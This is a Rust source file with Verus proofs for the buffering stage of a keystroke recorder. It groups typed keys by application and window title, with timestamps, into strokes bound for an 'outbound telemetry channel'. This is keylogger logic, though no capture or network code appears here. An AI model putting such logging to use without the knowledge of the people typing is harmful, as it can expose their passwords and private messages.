//! Keystroke buffering decisions.
//!
//! The platform listener turns keys into their textual form; this module
//! decides how those pieces are grouped into strokes: one stroke gathers
//! consecutive keys typed into the same window, up to the configured
//! buffer size, and a finished stroke joins the outbound telemetry
//! channel.

use vstd::prelude::*;
use vstd::string::StrSliceExecFns;
use vstd::string::StringExecFns;

use crate::text::str_eq;

verus! {

/// One stroke: consecutive keys typed into one window.
#[derive(Clone, Debug)]
pub struct KeystrokeEntry {
    /// The keys' textual forms, concatenated.
    pub keys: String,
    /// The application they were typed into.
    pub application_name: String,
    /// The window they were typed into.
    pub window_title: String,
    /// When the stroke began, in milliseconds.
    pub timestamp: u64,
}

/// Whether a key belongs to the stroke being gathered: same application,
/// same window, and the stroke still under the buffer size.
pub open spec fn continues_stroke(
    cur: KeystrokeEntry,
    app: Seq<char>,
    title: Seq<char>,
    max_size: nat,
) -> bool {
    cur.application_name@ == app && cur.window_title@ == title && cur.keys@.len() < max_size
}

/// What a fresh stroke holds.
pub open spec fn starts_stroke(
    cur: KeystrokeEntry,
    key: Seq<char>,
    app: Seq<char>,
    title: Seq<char>,
    timestamp: u64,
) -> bool {
    &&& cur.keys@ == key
    &&& cur.application_name@ == app
    &&& cur.window_title@ == title
    &&& cur.timestamp == timestamp
}

/// One key event. An empty textual form changes nothing. A key in the same
/// window extends the stroke while it is under the size limit; otherwise
/// the gathered stroke is handed out — when it holds anything — and a new
/// one begins with this key. The first returned value is the finished
/// stroke owed to the buffer, the second the stroke being gathered.
pub fn process_key_event(
    current: Option<KeystrokeEntry>,
    key_string: String,
    app_name: String,
    window_title: String,
    timestamp: u64,
    max_size: usize,
) -> (r: (Option<KeystrokeEntry>, Option<KeystrokeEntry>))
    ensures
        key_string@.len() == 0 ==> r.0 is None && r.1 == current,
        key_string@.len() > 0 ==> (match current {
            Some(cur) => {
                if continues_stroke(cur, app_name@, window_title@, max_size as nat) {
                    &&& r.0 is None
                    &&& (r.1 matches Some(next) && next.keys@ == cur.keys@ + key_string@
                        && next.application_name == cur.application_name
                        && next.window_title == cur.window_title
                        && next.timestamp == cur.timestamp)
                } else {
                    &&& (if cur.keys@.len() > 0 {
                        r.0 == Some(cur)
                    } else {
                        r.0 is None
                    })
                    &&& (r.1 matches Some(next)
                        && starts_stroke(next, key_string@, app_name@, window_title@, timestamp))
                }
            },
            None => r.0 is None && (r.1 matches Some(next)
                && starts_stroke(next, key_string@, app_name@, window_title@, timestamp)),
        }),
{
    if key_string.unicode_len() == 0 {
        return (None, current);
    }
    match current {
        Some(mut cur) => {
            if str_eq(cur.application_name.as_str(), app_name.as_str())
                && str_eq(cur.window_title.as_str(), window_title.as_str())
                && cur.keys.unicode_len() < max_size {
                cur.keys.append(key_string.as_str());
                (None, Some(cur))
            } else {
                let next = KeystrokeEntry {
                    keys: key_string,
                    application_name: app_name,
                    window_title,
                    timestamp,
                };
                if cur.keys.unicode_len() > 0 {
                    (Some(cur), Some(next))
                } else {
                    (None, Some(next))
                }
            }
        },
        None => {
            let next = KeystrokeEntry {
                keys: key_string,
                application_name: app_name,
                window_title,
                timestamp,
            };
            (None, Some(next))
        },
    }
}

/// Ends the gathered stroke for a drain: a non-empty stroke is owed to the
/// buffer ahead of the batch, an empty one is dropped.
pub fn take_current_stroke(current: Option<KeystrokeEntry>) -> (r: Option<KeystrokeEntry>)
    ensures
        match current {
            Some(cur) => {
                if cur.keys@.len() > 0 {
                    r == Some(cur)
                } else {
                    r is None
                }
            },
            None => r is None,
        },
{
    match current {
        Some(cur) => {
            if cur.keys.unicode_len() > 0 {
                Some(cur)
            } else {
                None
            }
        },
        None => None,
    }
}

} // verus!
